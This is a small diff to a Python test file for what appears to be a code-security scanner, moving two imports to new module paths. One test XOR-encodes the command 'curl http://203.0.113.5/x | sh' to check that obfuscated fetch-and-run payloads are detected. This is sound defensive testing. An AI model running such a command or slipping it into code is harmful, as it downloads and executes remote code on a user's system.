@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from hermes_git.guard import flows
+from hermes_git.guard.lang import flows
 
 pytestmark = pytest.mark.skipif(not flows.available(), reason="tree-sitter grammars missing")
 
@@ -45,7 +45,7 @@ def test_javascript_flow_and_shell_strings() -> None:
 
 
 def test_ciphers_decode_only_what_reads_as_a_command() -> None:
-    from hermes_git.guard import ciphers
+    from hermes_git.guard.read import ciphers
 
     xor = ", ".join(str(ord(c) ^ 42) for c in "curl http://203.0.113.5/x | sh")
     (found,) = ciphers.payloads(f"k = 42\ndata = [{xor}]\n")
